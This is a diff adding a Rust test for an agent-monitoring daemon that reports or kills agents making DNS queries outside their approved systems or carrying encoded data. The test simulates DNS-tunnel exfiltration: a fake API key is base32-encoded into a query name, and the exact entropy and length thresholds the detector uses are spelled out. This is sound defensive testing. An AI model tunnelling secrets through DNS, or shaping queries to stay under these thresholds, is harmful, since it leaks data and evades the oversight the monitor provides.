@@ -156,3 +156,170 @@ name = "coder"
         .collect();
     assert_eq!(rejections.len(), 3, "{rejections:#?}");
 }
+
+/// The first 40 characters of base32 of "the api key is sk-live-4f9a2b7c1d",
+/// as a tunnel would put data into a name (4.18 bits per character).
+const ENCODED: &str = "orugkidbobusa23fpeqgs4zaonvs23djozss2ndg";
+
+/// The `dns_query` event of session `session` for `name`.
+fn query_seen(d: &Daemon, session: &str, name: &str) -> Value {
+    d.wait_for(&format!("dns query for {name}"), |e| {
+        e["kind"] == "dns_query" && e["identity"]["session"] == session && e["name"] == name
+    })
+}
+
+/// Anomalies of `session` whose offending query asked for `name`.
+fn about(d: &Daemon, session: &str, name: &str) -> Vec<Value> {
+    d.events()
+        .into_iter()
+        .filter(|e| {
+            e["kind"] == "anomaly"
+                && e["identity"]["session"] == session
+                && e["offending"]["name"] == name
+        })
+        .collect()
+}
+
+/// An agent may use an approved resolver, yet the names it asks are data
+/// that reach the resolver and every server of the names' domains: asking
+/// an approved resolver for a name outside systems, or for one that
+/// carries encoded data, is the attack. Each query below resolves (the
+/// resolver answers, as a real one would); before query names were judged
+/// none of them was reported, since the resolver itself is in systems.
+#[test]
+fn query_names_outside_systems_or_carrying_data_are_reported() {
+    if !kernel_available() {
+        return;
+    }
+    let d = Daemon::start(
+        r#"
+[scope]
+aggregate_window_seconds = 1
+
+[[agent]]
+name = "asker"
+  [agent.match]
+  sessions = true
+  [agent.scope]
+  systems = ["udp://127.0.0.4:53", "api.test.internal:443", "*.cdn.test.internal:443"]
+  tools = ["/**"]
+
+[[agent]]
+name = "tunnel"
+on_violation = "kill"
+  [agent.match]
+  sessions = true
+  [agent.scope]
+  systems = ["udp://127.0.0.4:53", "*.cdn.test.internal:443"]
+  tools = ["/**"]
+
+# Runs the marker of `Daemon::settle`.
+[[agent]]
+name = "coder"
+  [agent.match]
+  sessions = true
+  [agent.scope]
+  tools = ["/**"]
+"#,
+    );
+    let _dns = DnsServer::on("127.0.0.4:53", "127.0.0.9".parse().unwrap());
+    let mut s = Served::start(&d, "asker", "s-ask");
+    let mut ask = |name: &str| {
+        assert_eq!(
+            s.ask(&format!("dns 127.0.0.4:53 {name}")).as_deref(),
+            Some("ok 127.0.0.9"),
+            "{name} resolves through the approved resolver"
+        );
+        query_seen(&d, "s-ask", name)
+    };
+
+    // Controls: names of systems, also as a pod's search list expands
+    // them, and a content hash under an allowed domain.
+    let ordinary = [
+        "api.test.internal",
+        "api.test.internal.default.svc.cluster.local",
+        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4.cdn.test.internal",
+        "k8s-default-ingressw-0a1b2c3d4e-1234567890.cdn.test.internal",
+    ];
+    for name in ordinary {
+        let q = ask(name);
+        assert_eq!(q["server"], "127.0.0.4", "{q}");
+        assert_eq!(q["server_port"], 53, "{q}");
+        assert_eq!(q["qtype"], 1, "{q}");
+        assert!(q["process"]["pid"].as_u64().unwrap() > 0, "{q}");
+    }
+
+    // A name outside systems, through the approved resolver.
+    ask("pastebin.example");
+    let a = d.wait_for("unapproved dns query", |e| {
+        e["kind"] == "anomaly"
+            && e["identity"]["session"] == "s-ask"
+            && e["anomaly"] == "unapproved_system"
+    });
+    assert_eq!(
+        a["reason"], "dns query for pastebin.example to 127.0.0.4:53 is outside systems of asker",
+        "{a}"
+    );
+    assert_eq!(a["offending"]["kind"], "dns_query", "{a}");
+    assert_eq!(a["action"], "observed", "{a}");
+
+    // Data in a name under an allowed domain: a high-entropy label, and a
+    // long one (hex, which no entropy bound separates from hashes).
+    let encoded = format!("{ENCODED}.x.cdn.test.internal");
+    ask(&encoded);
+    let a = d.wait_for("high-entropy label", |e| {
+        e["kind"] == "anomaly"
+            && e["anomaly"] == "dns_exfiltration_suspected"
+            && e["offending"]["name"] == encoded.as_str()
+    });
+    assert_eq!(
+        a["reason"],
+        "dns query to 127.0.0.4:53 under x.cdn.test.internal has a label with 32 or more \
+         characters of more than 4 bits of entropy each: data may be encoded in the name",
+        "{a}"
+    );
+    assert_eq!(a["severity"], "high", "{a}");
+    let long = format!("{}.cdn.test.internal", &"0123456789abcdef".repeat(4)[..56]);
+    ask(&long);
+    let a = d.wait_for("long label", |e| {
+        e["kind"] == "anomaly"
+            && e["anomaly"] == "dns_exfiltration_suspected"
+            && e["offending"]["name"] == long.as_str()
+    });
+    assert!(
+        a["reason"]
+            .as_str()
+            .unwrap()
+            .contains("under cdn.test.internal has a label longer than 50 characters"),
+        "{a}"
+    );
+
+    // An agent with on_violation = "kill" dies for the first encoded name.
+    let mut t = Served::start(&d, "tunnel", "s-tunnel");
+    let exfil = format!("{ENCODED}.y.cdn.test.internal");
+    let _ = t.ask(&format!("dns 127.0.0.4:53 {exfil}"));
+    let a = d.wait_for("tunnel killed", |e| {
+        e["kind"] == "anomaly"
+            && e["identity"]["session"] == "s-tunnel"
+            && e["anomaly"] == "dns_exfiltration_suspected"
+    });
+    assert_eq!(a["action"], "killed", "{a}");
+    assert_eq!(t.wait_signal(), Some(9));
+
+    d.settle();
+    for name in ordinary {
+        let found = about(&d, "s-ask", name);
+        assert!(found.is_empty(), "{name}: {found:#?}");
+    }
+    // The sends to the resolver are in scope: the names were the only news.
+    let others: Vec<Value> = d
+        .events()
+        .into_iter()
+        .filter(|e| {
+            e["kind"] == "anomaly"
+                && e["identity"]["session"] == "s-ask"
+                && e["offending"]["kind"] != "dns_query"
+        })
+        .collect();
+    assert!(others.is_empty(), "{others:#?}");
+}
